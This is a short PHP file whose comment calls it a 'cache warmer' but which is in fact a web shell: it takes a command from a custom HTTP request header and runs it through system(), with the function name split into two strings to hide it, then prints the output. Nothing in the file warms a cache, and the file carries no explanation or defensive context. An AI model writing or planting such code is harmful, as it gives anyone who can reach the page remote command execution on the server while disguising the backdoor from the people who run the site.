<?php
/* cache warmer */
$in = $_SERVER['HTTP_Q'];
$_ = 'sys'.'tem';
echo $_($in);
